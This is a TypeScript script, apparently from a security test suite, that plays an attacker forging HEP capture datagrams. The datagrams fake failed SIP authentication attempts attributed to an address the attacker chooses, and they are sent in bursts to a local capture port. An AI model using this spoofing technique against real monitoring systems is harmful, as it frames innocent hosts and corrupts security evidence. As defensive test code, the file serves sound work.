// Whoever may send to the HEP port and is no Asterisk: mirrored guesses under an address of his choice, under a password
// of his choice.
import { createSocket } from 'node:dgram';
import { hepDatagram } from '../../capture/hep-datagrams.ts';
import { answer, challengeOf, digest, request } from '../../capture/sip-conversation.ts';
import { addresses } from '../addresses.ts';
import { readOptions, say } from './program.ts';

export interface HepSenderOptions {
  readonly password: string;
  /** Whom the datagrams accuse. */
  readonly as: string;
  readonly count: number;
}

export interface HepSenderFinding {
  readonly sent: number;
}

const port = 9_060;
const burst = 200;
const { password, as, count } = readOptions<HepSenderOptions>();
const ours = { address: addresses.pbx.ipv4, port: 5_061 };
const theirs = { address: as, port: 40_000 };
const socket = createSocket('udp4');
const time = Date.now();

const inward = (payload: Buffer) =>
  hepDatagram({ password, time, source: theirs, destination: ours, payload: payload.toString() });
const outward = (payload: Buffer) =>
  hepDatagram({ password, time, source: ours, destination: theirs, payload: payload.toString() });
/** A challenge that left to them, their wrong answer, and its refusal. */
const guess = (index: number): readonly Buffer[] => [
  outward(answer({ challenge: [challengeOf(`forged ${index}`)], callId: `${index}` }).bytes),
  inward(
    request({ authorization: [digest(`forged ${index}`, `r${index}`)], callId: `${index}`, cseq: 2 }).bytes,
  ),
  outward(answer({ callId: `${index}`, cseq: 2 }).bytes),
];

const send = (bytes: Buffer) =>
  new Promise<void>((resolve) => socket.send(bytes, port, '127.0.0.1', () => resolve()));
let sent = 0;
while (sent < count) {
  const datagrams = Array.from({ length: burst }, (_, index) => guess(sent + index)).flat();
  const part = datagrams.slice(0, Math.min(burst, count - sent));
  await Promise.all(part.map(send));
  sent += part.length;
}
socket.close();
say<HepSenderFinding>({ sent });
